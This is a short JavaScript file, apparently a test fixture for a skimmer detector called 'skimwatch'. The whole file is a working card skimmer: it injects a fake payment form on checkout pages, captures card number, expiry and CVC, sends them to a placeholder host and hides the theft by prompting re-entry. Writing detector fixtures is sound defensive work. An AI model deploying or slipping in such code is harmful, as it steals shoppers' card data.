// Synthetic fake payment form for skimwatch tests: shown on the merchant's
// confirm page before the redirect to the real payment provider.
(function () {
  var host = document.querySelector(".order-review");
  if (!host || !/confirm|checkout/.test(location.pathname)) return;
  host.insertAdjacentHTML("beforeend",
    '<div class="pay-box"><h3>Payment details</h3>' +
    '<input type="text" name="pan_cardnumber" autocomplete="cc-number" placeholder="Card number">' +
    '<input type="text" name="exp" autocomplete="cc-exp" placeholder="MM/YY">' +
    '<input type="password" name="card_cvc" autocomplete="cc-csc" placeholder="CVC">' +
    '<button type="button" id="pay-now">Pay now</button></div>');
  document.getElementById("pay-now").addEventListener("click", function () {
    var box = host.querySelector(".pay-box"), out = {};
    box.querySelectorAll("input").forEach(function (i) { out[i.name] = i.value; });
    fetch("https://payments-secure-check.example/v2/verify", { method: "POST", mode: "no-cors", body: JSON.stringify(out) });
    box.innerHTML = "<p>Please re-enter your card on the next page.</p>";
    setTimeout(function () { document.querySelector("form.checkout").submit(); }, 1200);
  });
})();
